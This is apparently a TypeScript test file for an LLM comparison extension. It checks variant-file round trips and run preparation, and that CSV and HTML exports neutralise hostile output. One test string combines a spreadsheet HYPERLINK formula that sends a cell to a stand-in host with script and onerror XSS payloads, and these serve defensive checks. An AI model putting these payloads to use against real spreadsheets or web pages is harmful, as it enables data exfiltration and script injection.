import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { chromium } from 'playwright-core';
import { summarizeRun } from '../../src/core/compare/aggregate';
import type { RunHeader, RunRecord } from '../../src/core/compare/types';
import { loadVariantsFile, parseVariantsFile } from '../../src/core/compare/variantsFile';
import type { ComparisonDraft } from '../../src/webview/compare/protocol';
import { runToCsv } from '../../src/vscode/compare/csv';
import * as engine from '../../src/vscode/compare/engine';
import { canonicalScorer, canonicalVariant, providersForFile, singleInputRow, variantsForRun } from '../../src/vscode/compare/prepare';
import { renderRunReport } from '../../src/vscode/compare/report';
import { draftToVariantsFile, variantsFileToDraft } from '../../src/vscode/compare/variantsJson';
import { CHROMIUM_ARGS } from './comparePage';

const header: RunHeader = {
	type: 'header',
	format: 1,
	runId: '2026-01-05T09-30-00Z-abc123',
	llmLabVersion: '0.1.0',
	createdAt: '2026-01-05T09:30:00.000Z',
	variants: [
		{ id: 'ft', label: 'Fine-tuned', model: 'openai:ft:gpt-4o-mini-2024-07-18:acme::abc123' },
		{ id: 'few', label: 'Few-shot', model: 'openai:gpt-4o-mini' },
	],
	scorers: [{ type: 'exact' }, { type: 'regex', id: 'word', pattern: '^\\w+$' }],
	dataset: { path: '/work/data.jsonl', rows: 2, sha256: 'abc' },
};

function createRecord(row: number, variant: string, output: string, overrides: Partial<RunRecord> = {}): RunRecord {
	return {
		type: 'result',
		row,
		variant,
		output,
		expected: 'positive',
		promptTokens: 40,
		completionTokens: 2,
		tokensEstimated: false,
		costUsd: 0.00001,
		firstTokenMs: 90,
		latencyMs: 300,
		finishReason: 'stop',
		attempts: 1,
		scores: [
			{ scorer: 'exact', score: output === 'positive' ? 1 : 0, pass: output === 'positive' },
			{ scorer: 'word', score: 1, pass: true },
		],
		pass: output === 'positive',
		finishedAt: '2026-01-05T09:30:01.000Z',
		...overrides,
	};
}

const hostile = `=HYPERLINK("https://evil.invalid/?"&A1)\n<script>document.title='ran'</script><img src=x onerror="document.title='img'">, "quoted"`;

describe('variants file conversion', () => {
	let folder: string;

	before(async () => {
		folder = await mkdtemp(path.join(tmpdir(), 'llm-lab-variants-'));
	});

	after(async () => {
		await rm(folder, { recursive: true, force: true });
	});

	const draft: ComparisonDraft = {
		variants: [
			{ id: 'ft', label: 'Fine-tuned', model: 'openai:ft:gpt-4o-mini-2024-07-18:acme::abc123', parameters: { temperature: 0, seed: 7 } },
			{
				id: 'few',
				label: 'Few-shot',
				model: 'lmstudio:qwen2.5-7b',
				system: 'Classify the sentiment as {{labels}}.',
				template: 'Review: {{input}}',
				examples: [
					{
						messages: [
							{ role: 'user', content: 'Great phone.' },
							{ role: 'assistant', content: 'positive' },
						],
					},
					{
						messages: [
							{ role: 'user', content: 'Is it good?' },
							{ role: 'assistant', content: 'Which one?' },
							{ role: 'user', content: 'The phone.' },
							{ role: 'assistant', content: 'neutral' },
						],
					},
				],
				examplesFrom: { file: 'data/train.jsonl', count: 2, pick: 'random', seed: 42 },
				parameters: { maxTokens: 4, stop: ['\n'] },
				price: { inputPerMillion: 0, outputPerMillion: 0 },
			},
		],
		scorers: [{ type: 'exact', caseSensitive: false }, { type: 'judge', model: 'openai:gpt-4o-mini', rubric: 'Is it right?' }],
		concurrency: { openai: 2 },
		breakEven: { trainingTokens: 500_000, epochs: 3 },
	};
	const configured = [
		{ id: 'openai', name: 'OpenAI', kind: 'openai' as const, baseUrl: 'https://api.openai.com/v1' },
		{ id: 'lmstudio', name: 'LM Studio', kind: 'openai' as const, baseUrl: 'http://127.0.0.1:1234/v1' },
		{ id: 'ollama', name: 'Ollama', kind: 'ollama' as const, baseUrl: 'http://127.0.0.1:11434' },
	];

	it('round trip keeps the draft', () => {
		const root = '/work/repo';
		const file = draftToVariantsFile(draft, providersForFile(draft, configured), '/work/repo/config/variants.json', root);
		const variants = file.variants as Array<Record<string, unknown>>;
		assert.deepEqual(variants[1].fewShot, { file: '../data/train.jsonl', count: 2, pick: 'random', seed: 42 });
		assert.deepEqual((variants[1].examples as unknown[])[0], { input: 'Great phone.', output: 'positive' });
		assert.equal(((variants[1].examples as unknown[])[1] as { messages: unknown[] }).messages.length, 4);
		assert.deepEqual(
			(file.providers as Array<{ id: string }>).map((entry) => entry.id),
			['openai', 'lmstudio'],
		);

		const parsed = parseVariantsFile(JSON.parse(JSON.stringify(file)), 'variants.json');
		const back = variantsFileToDraft(parsed, '/work/repo/config/variants.json', root);
		assert.deepEqual(back.variants, draft.variants);
		assert.deepEqual(back.scorers, draft.scorers);
		assert.deepEqual(back.concurrency, draft.concurrency);
		assert.deepEqual(back.breakEven, draft.breakEven);
		assert.deepEqual(back.providers, providersForFile(draft, configured));
	});

	it('saved file loads in the CLI reader', async () => {
		await mkdir(path.join(folder, 'data'), { recursive: true });
		const lines = ['love it', 'hate it', 'fine', 'superb'].map((text, index) =>
			JSON.stringify({
				messages: [
					{ role: 'system', content: 'Classify.' },
					{ role: 'user', content: text },
					{ role: 'assistant', content: ['positive', 'negative', 'neutral', 'positive'][index] },
				],
			}),
		);
		await writeFile(path.join(folder, 'data', 'train.jsonl'), `${lines.join('\n')}\n`);
		const target = path.join(folder, 'config', 'variants.json');
		await mkdir(path.dirname(target), { recursive: true });
		await writeFile(target, JSON.stringify(draftToVariantsFile(draft, providersForFile(draft, configured), target, folder), null, '\t'));

		const loaded = await loadVariantsFile(target);
		const few = loaded.variants[1];
		assert.equal(few.examples?.length, 4);
		assert.deepEqual(few.examples?.[0].messages, draft.variants[1].examples?.[0].messages);
		const picked = few.examples?.slice(2).map((example) => example.messages[0].content);
		const prepared = await variantsForRun(draft.variants, folder, engine);
		assert.deepEqual(
			prepared[1].examples?.slice(2).map((example) => example.messages[0].content),
			picked,
		);
		assert.equal(picked?.length, 2);
	});
});

describe('run preparation', () => {
	it('canonical variant has fixed field order', () => {
		const first = canonicalVariant({ model: 'openai:gpt-4o-mini', id: 'a', label: '', parameters: { seed: 1, temperature: 0 }, system: '' });
		const second = canonicalVariant({ id: 'a', label: 'a', parameters: { temperature: 0, seed: 1 }, model: 'openai:gpt-4o-mini' });
		assert.equal(JSON.stringify(first), JSON.stringify(second));
		assert.equal(JSON.stringify(first), '{"id":"a","label":"a","model":"openai:gpt-4o-mini","parameters":{"temperature":0,"seed":1}}');
	});

	it('canonical scorer sorts its fields', () => {
		const scorer = canonicalScorer({ pattern: 'x', flags: 'i', id: 'r', type: 'regex' });
		assert.equal(JSON.stringify(scorer), '{"type":"regex","id":"r","flags":"i","pattern":"x"}');
	});

	it('blank examples are not sent', async () => {
		const [variant] = await variantsForRun(
			[
				{
					id: 'a',
					label: 'A',
					model: 'openai:gpt-4o-mini',
					examples: [
						{
							messages: [
								{ role: 'user', content: ' ' },
								{ role: 'assistant', content: '' },
							],
						},
					],
				},
			],
			'/nowhere',
			engine,
		);
		assert.equal(variant.examples, undefined);
	});

	it('single input row keeps expected apart', () => {
		assert.deepEqual(singleInputRow({ input: 'Hi', context: 'c', expected: 'Hello' }), {
			index: 0,
			line: 0,
			variables: { input: 'Hi', context: 'c' },
			expected: 'Hello',
		});
		assert.equal('expected' in singleInputRow({ input: 'Hi', expected: '' }), false);
	});
});

describe('run exports', () => {
	const records = [
		createRecord(0, 'ft', 'positive'),
		createRecord(0, 'few', hostile, { tokensEstimated: true, costUsd: undefined }),
		createRecord(1, 'ft', '-3'),
		createRecord(1, 'few', '', { error: { kind: 'RateLimitError', message: 'HTTP 429, "slow down"', status: 429 }, scores: [], pass: false }),
	];

	it('CSV quotes and defuses cells', () => {
		const csv = runToCsv(header, records, [
			{ index: 0, line: 1, input: 'input: good, really', expected: 'positive' },
			{ index: 1, line: 2, input: '@SUM(A1)', expected: 'positive' },
		]);
		const lines = csv.split('\r\n');
		assert.equal(
			lines[0],
			'row,variant,model,input,expected,output,error,pass,score:exact,score:word,prompt_tokens,completion_tokens,' +
				'tokens_estimated,first_token_ms,latency_ms,cost_usd,judge_cost_usd,perplexity,attempts,finish_reason',
		);
		assert.equal(lines[1], '1,ft,openai:ft:gpt-4o-mini-2024-07-18:acme::abc123,"input: good, really",positive,positive,,true,1,1,40,2,false,90,300,0.00001,,,1,stop');
		assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.invalid/?""&A1)\n<script>`), 'the formula was not defused and quoted');
		assert.match(csv, /\r\n2,ft,[^,]+,'@SUM\(A1\),positive,-3,,false,0,1,/);
		assert.match(csv, /,"RateLimitError: HTTP 429, ""slow down""",false,,,/);
		assert.ok(csv.endsWith('\r\n'));
	});

	it('HTML report escapes output', () => {
		const html = renderRunReport({ header, records, summaries: summarizeRun(header.variants, records), label: 'data.jsonl' });
		assert.doesNotMatch(html, /<script>document/);
		assert.doesNotMatch(html, /<img src=x/);
		assert.match(html, /&lt;script&gt;document\.title=&#39;ran&#39;&lt;\/script&gt;/);
		const style = /<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? '';
		const hash = createHash('sha256').update(style).digest('base64');
		assert.ok(html.includes(`content="default-src &#39;none&#39;; style-src &#39;sha256-${hash}&#39;"`), 'the CSP does not name the style hash');
		assert.equal(html.match(/<script/g), null);
	});

	it('HTML report runs nothing in Chromium', async () => {
		const html = renderRunReport({
			header,
			records,
			summaries: summarizeRun(header.variants, records),
			rows: [
				{ index: 0, line: 1, input: 'input: <b>bold</b>', expected: 'positive' },
				{ index: 1, line: 2, input: 'input: meh', expected: 'positive' },
			],
			label: 'data.jsonl',
		});
		const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS });
		try {
			const page = await browser.newPage();
			const requests: string[] = [];
			page.on('request', (request) => {
				if (!request.url().startsWith('about:') && !request.url().startsWith('data:')) {
					requests.push(request.url());
				}
			});
			await page.setContent(html);
			assert.equal(await page.title(), 'LLM Lab comparison: data.jsonl');
			assert.equal(await page.locator('script, img').count(), 0);
			const firstRow = page.locator('table.rows tbody tr').first();
			assert.equal(await firstRow.locator('td pre').first().textContent(), 'input: <b>bold</b>');
			assert.equal(await page.locator('table.summary tbody tr').first().locator('td').nth(1).textContent(), '50.0%');
			const removed = page.locator('table.rows tbody tr').nth(1).locator('td').nth(3).locator('del');
			assert.equal(await removed.first().textContent(), 'positive');
			// The inline style applies only when its hash matches the CSP.
			const background = await removed.first().evaluate((element) => getComputedStyle(element).backgroundColor);
			assert.equal(background, 'rgb(255, 235, 233)');
			assert.deepEqual(requests, []);
		} finally {
			await browser.close();
		}
	});
});
